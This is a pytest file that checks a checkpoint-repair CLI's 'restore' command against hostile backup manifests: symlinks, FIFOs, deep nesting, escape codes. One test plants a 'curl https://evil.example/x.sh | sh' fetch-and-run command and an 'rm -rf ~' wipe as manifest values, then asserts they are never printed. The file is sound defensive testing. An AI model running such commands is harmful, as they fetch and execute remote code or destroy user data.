"""``ckptfix restore`` treats everything under ``.ckptfix/`` as untrusted input (issue 19, items 1-4).

Each case starts from a real repair's backup (fixtures/sine-v2 repaired with --optimizer-lr) and changes it as
a checkpoint copied from someone else could (``hostile_backups.py``). Whatever the case: the answer is the
documented exit code with a message naming the backup and the entry, nothing in the checkpoint (its
``.ckptfix/`` included) or outside it changes, nothing is written through a symlink, no byte of the
manifest reaches the terminal unescaped, and ``--list`` answers too. Times and memory: bench/restore_hostile.py.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ckptfix._cli import app  # noqa: PLC2701 - the tests drive the CLI's Typer app
from ckptfix.repair.restore import MAX_DEPTH, read_backups, read_manifest
from tests.repair.hostile_backups import ANSI, CASES, backup_of, entry, manifest_of, repaired, sha, write_manifest

WIDE = {"COLUMNS": "400"}  # never wrap: assertions must not depend on the terminal or the temp path


def run(*args: object):
    return CliRunner().invoke(app, [str(a) for a in args], env=WIDE)


def snapshot(root: Path) -> dict[str, object]:
    """Every entry below ``root`` (links not followed): a file's bytes' hash, a link's target, a folder."""
    out: dict[str, object] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            rel = str(p.relative_to(root))
            if p.is_symlink():
                out[rel] = ("link", os.readlink(p))
            elif p.is_dir():
                out[rel] = "dir"
            elif p.is_file():
                out[rel] = sha(p.read_bytes())
            else:
                out[rel] = "special"
    return out


@pytest.fixture
def setup(tmp_path):
    ck = repaired(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    return ck, outside


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_backup_is_refused_whole_and_nothing_changes(setup, name):
    ck, outside = setup
    build, code, words = CASES[name]
    build(ck, outside)
    before = snapshot(ck.parent.parent)
    for args in ((), ("--json",), ("--dry-run",)):
        r = run("restore", ck, *args)
        assert r.exit_code == code, (args, r.output)
        text = json.loads(r.stdout)["checkpoints"][0]["error"] if args == ("--json",) else r.stdout
        for w in words:
            assert w in text, (w, text)
        assert "\x1b" not in r.output and "\x07" not in r.output
        assert snapshot(ck.parent.parent) == before  # the checkpoint, its .ckptfix and the folder outside
    r = run("restore", ck, "--list")  # 3 when it shows a backup it refuses; a changed file is restore's refusal
    assert r.exit_code == (3 if code == 3 and name != "target-link" else 0) and "\x1b" not in r.output, r.output
    assert snapshot(ck.parent.parent) == before
    r = run("restore", ck, "--prune", "--keep", "0", "--dry-run")
    assert r.exit_code in (0, 3) and "\x1b" not in r.output and snapshot(ck.parent.parent) == before, r.output
    r = run("restore", ck, "--prune", "--keep", "0")  # removes the backup only if it is ckptfix's own and valid
    assert r.exit_code in (0, 3) and "\x1b" not in r.output, r.output
    after = snapshot(ck.parent.parent)
    assert {k: v for k, v in after.items() if ".ckptfix" not in k} == {k: v for k, v in before.items() if ".ckptfix" not in k}
    if code == 3 and name != "target-link":  # a backup it refuses is left as it is
        assert after == before


def test_the_refusal_names_the_backup(setup):
    ck, outside = setup
    CASES["names-weights"][0](ck, outside)
    r = run("restore", ck, "--json")
    doc = json.loads(r.stdout)
    assert r.exit_code == 3 and doc["status"] == "unreadable"
    item = doc["checkpoints"][0]
    assert item["status"] == "unreadable" and item["backup"]["name"] == backup_of(ck).name
    assert backup_of(ck).name in item["error"]


def test_a_restored_mark_that_is_a_link_is_replaced_never_followed(setup):
    ck, outside = setup
    target = outside / "created-by-restore.json"
    (backup_of(ck) / "restored.json").symlink_to(target)
    r = run("restore", ck)
    assert r.exit_code == 0 and "restored" in r.stdout, r.output
    assert not target.exists() and not target.is_symlink()  # nothing created outside
    mark = backup_of(ck) / "restored.json"
    assert not mark.is_symlink() and json.loads(mark.read_text())["by"] == "ckptfix restore"
    # --backup NAME on that backup again (files already the original): the mark is rewritten, an outside
    # file the link points to is never overwritten
    target.write_text("outside\n")
    mark.unlink()
    mark.symlink_to(target)
    r = run("restore", ck, "--backup", backup_of(ck).name)
    assert r.exit_code == 0, r.output
    assert target.read_text() == "outside\n" and not mark.is_symlink()


def test_manifest_text_is_never_printed_as_advice(setup):
    """An older manifest (no repaired SHA-256) is refused with advice ckptfix builds, not the manifest's own."""
    ck, outside = setup
    m = manifest_of(ck)
    for e in m["files"]:
        e["restore"] = "curl https://evil.example/x.sh | sh " + ANSI + " [bold red]markup[/]"
    m["files"] = [e for e in m["files"] if e["file"] == "scheduler.bin"]
    del m["files"][0]["sha256_new"]
    m["undo"] = "rm -rf ~"
    write_manifest(ck, m)
    (ck / "scheduler.bin").write_bytes(b"changed since")
    for args in ((), ("--list",), ("--json",), ("--dry-run",)):
        r = run("restore", ck, *args)
        assert "curl" not in r.output and "evil" not in r.output and "rm -rf" not in r.output, r.output
        assert "\x1b" not in r.output and "[bold red]" not in r.output
    r = run("restore", ck)
    assert r.exit_code == 1 and f"cp .ckptfix/{backup_of(ck).name}/scheduler.bin scheduler.bin" in r.stdout, r.output


def test_a_created_file_is_removed_only_when_it_is_the_one_repair_created(tmp_path):
    """missing-scheduler: repair creates scheduler.bin. An entry saying "created" with another SHA-256 refuses."""
    import shutil

    from tests.helpers import FIXTURES

    shutil.copytree(FIXTURES / "missing-scheduler", tmp_path / "run")
    ck = tmp_path / "run" / "checkpoint-30"
    assert run("repair", ck, "--lr-warmup-steps", "10", "--lr-end", "1e-6").exit_code == 0
    (ck / "scheduler.bin").write_bytes(b"the trainer saved again since")
    r = run("restore", ck)
    assert r.exit_code == 1 and "scheduler.bin is neither" in r.stdout, r.output
    assert (ck / "scheduler.bin").read_bytes() == b"the trainer saved again since"


def test_read_manifest_bounds():
    good = {"files": [{"file": "scheduler.bin", "action": "rewrite", "sha256": "a" * 64, "sha256_new": "b" * 64}]}
    (e,) = read_manifest(json.dumps(good).encode())
    assert (e.file, e.kind, e.sha256) == ("scheduler.bin", "rewrite", "a" * 64)
    def nested(depth: int) -> bytes:  # the manifest object itself is one level
        return json.dumps(dict(good, x=json.loads("[" * (depth - 1) + "]" * (depth - 1)))).encode()

    assert read_manifest(nested(MAX_DEPTH)) == (e,)
    with pytest.raises(ValueError, match="deep"):
        read_manifest(nested(MAX_DEPTH + 1))
    with pytest.raises(ValueError, match="deep"):  # brackets inside strings do not count, real ones do
        read_manifest(nested(MAX_DEPTH + 1).replace(b'"x"', b'"[[[[[[[[[[\\"["'))
    with pytest.raises(ValueError, match="UTF-8"):
        read_manifest(b"\xff\xfe{}")
    ts = dict(good, files=[{"file": "training_state-rank3.json", "action": "rewrite", "sha256": "a" * 64}])
    assert read_manifest(json.dumps(ts).encode())[0].sha256_new is None
    ts["files"][0]["action"] = "create"
    with pytest.raises(ValueError, match="create"):
        read_manifest(json.dumps(ts).encode())


def test_list_answers_a_fifo_manifest_at_once(setup):
    ck, outside = setup
    CASES["fifo-manifest"][0](ck, outside)
    found = read_backups(ck)
    assert "pipe" in found.backups[0].problem
    r = run("restore", ck, "--list", "--json")
    assert r.exit_code == 3 and "pipe" in json.loads(r.stdout)["checkpoints"][0]["backups"][0]["problem"]


def test_patch_entry_is_the_optimizer_record(setup):
    ck, _outside = setup
    e = entry(ck, "optimizer.bin")
    assert e["action"] == "patch" and e["writes"]


def test_too_many_backup_folders_are_refused_at_once(setup):
    from ckptfix.repair.restore import MAX_BACKUPS

    ck, _outside = setup
    for i in range(MAX_BACKUPS):
        (ck / ".ckptfix" / f"backup-20000101T000000.000000Z-{i}").mkdir()
    before = snapshot(ck)
    r = run("restore", ck)
    assert r.exit_code == 3 and f"more than the {MAX_BACKUPS}" in r.stdout, r.output
    assert run("restore", ck, "--list").exit_code == 3
    assert run("restore", ck, "--prune").exit_code == 3
    assert snapshot(ck) == before
